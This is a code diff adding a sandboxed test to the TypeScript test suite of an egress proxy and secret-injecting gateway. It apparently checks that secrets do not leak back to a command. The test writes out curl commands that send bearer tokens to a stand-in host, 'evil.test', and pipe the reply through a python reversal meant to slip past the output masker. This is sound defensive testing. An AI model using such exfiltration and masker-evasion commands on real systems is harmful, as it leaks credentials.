@@ -10,7 +10,11 @@
 import { request } from 'node:http';
 import { createServer, type AddressInfo, type Server, type Socket } from 'node:net';
 import { constants as zlibConstants, createGzip, gunzipSync, gzipSync } from 'node:zlib';
-import { makeTempDir } from '../helpers/tmp';
+import { mkdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { createGateway } from '../../src/gateway';
+import { checkPlatform } from '../../src/sandbox/detect';
+import { baseEnv, makeTempDir } from '../helpers/tmp';
 import { EgressProxy, type EgressDecision, type EgressRun } from '../../src/egress/proxy';
 import { normalizeNetworkPolicy, normalizeSecretBindings } from '../../src/policy/egress-settings';
 import { parseHostPatterns } from '../../src/egress/hosts';
@@ -87,6 +91,7 @@ const SCENARIOS: Record<string, Scenario> = {
 };
 
 let tmp: ReturnType<typeof makeTempDir>;
+let names: ReturnType<typeof makeNames>;
 let upstream: Server;
 let proxy: EgressProxy;
 let run: EgressRun;
@@ -142,7 +147,8 @@ beforeAll(async () => {
   upstream = await startUpstream();
   const port = (upstream.address() as AddressInfo).port;
   const service: TestService = { name: 'evil', httpPort: port, httpsPort: port, seen: [], connections: 0, close: async () => undefined };
-  proxy = new EgressProxy({ ...makeNames({ 'evil.test': service }), upstreamCa: [publicCa.certPem], onDecision: (d) => decisions.push(d), runtimeDir: tmp.dir });
+  names = makeNames({ 'evil.test': service });
+  proxy = new EgressProxy({ ...names, upstreamCa: [publicCa.certPem], onDecision: (d) => decisions.push(d), runtimeDir: tmp.dir });
   run = await proxy.openRun({
     runId: 'run-evil',
     network: normalizeNetworkPolicy({ mode: 'allowlist', allow: ['evil.test'] }),
@@ -392,3 +398,48 @@ describe('encodings', () => {
     expect(seen(got).replace(/\\n/g, '')).not.toContain(encoded.slice(4, encoded.length - 4));
   });
 });
+
+const maybe = checkPlatform(undefined).ok ? describe : describe.skip;
+
+maybe('in a sandboxed run, through curl', () => {
+  test('the value as a field name, and a value beyond ASCII in a field as UTF-8: neither reaches the command, even reversed', async () => {
+    const dir = join(tmp.dir, 'gateway');
+    mkdirSync(dir, { recursive: true });
+    writeFileSync(join(dir, 'policy.yaml'), [
+      'version: 1',
+      'sandbox: { mode: required, network: { mode: allowlist, allow: [evil.test] } }',
+      'secrets:',
+      '  bind:',
+      '    - { ref: "secret:api", hosts: [evil.test], delivery: inject, http: [evil.test] }',
+      '    - { ref: "secret:wide", hosts: [evil.test], delivery: inject, http: [evil.test] }',
+    ].join('\n'));
+    const values: Record<string, string> = { api: VALUE, wide: WIDE };
+    const gateway = createGateway({
+      home: join(dir, 'home'), env: baseEnv({}), cwd: dir, policyFile: join(dir, 'policy.yaml'),
+      sources: [{ name: 'test', kinds: ['secret' as const], lookup: (_kind: string, id: string) => (values[id] === undefined ? { found: false as const } : { found: true as const, value: values[id]! }) }],
+      egress: { ...names, upstreamCa: [publicCa.certPem], runtimeDir: dir },
+    });
+    try {
+      // The output masker would hide the value itself: the command reverses what it got.
+      const reverse = `python3 -c 'import sys; print(sys.stdin.buffer.read().decode("utf8", "replace")[::-1])'`;
+      const result = await gateway.exec({
+        command: [
+          `curl -sS --max-time 20 -D - -H "Authorization: Bearer <<secret:api>>" http://evil.test/field-name | ${reverse}`,
+          `curl -sS --max-time 20 -D - -H "Authorization: Bearer <<secret:wide>>" http://evil.test/utf8-field | ${reverse}`,
+          'echo "[done]"',
+        ].join('\n'),
+        cwd: dir, mode: 'sync', timeout: 60_000,
+      });
+      const output = result.stdout + result.stderr;
+      expect(output).toContain('[done]');
+      expect(output).toContain(reversed('Bearer [REDACTED:secret:wide]'));
+      for (const leak of [VALUE, WIDE, reversed(VALUE), reversed(WIDE)]) expect(output).not.toContain(leak);
+    } finally {
+      await gateway.close();
+    }
+  });
+});
+
+function reversed(text: string): string {
+  return [...text].reverse().join('');
+}
